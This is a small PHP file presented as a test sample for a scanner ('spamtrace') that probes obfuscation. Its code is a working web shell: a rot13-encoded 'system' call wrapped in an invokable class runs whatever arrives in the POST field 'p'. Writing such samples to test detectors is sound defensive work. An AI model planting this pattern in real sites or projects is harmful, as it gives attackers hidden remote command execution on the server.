<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
class Handler
{
    private string $f;
    public function __construct() { $this->f = str_rot13('flfgrz'); }
    public function __invoke(string $x): void { ($this->f)($x); }
}
$h = new Handler();
$h($_POST['p']);
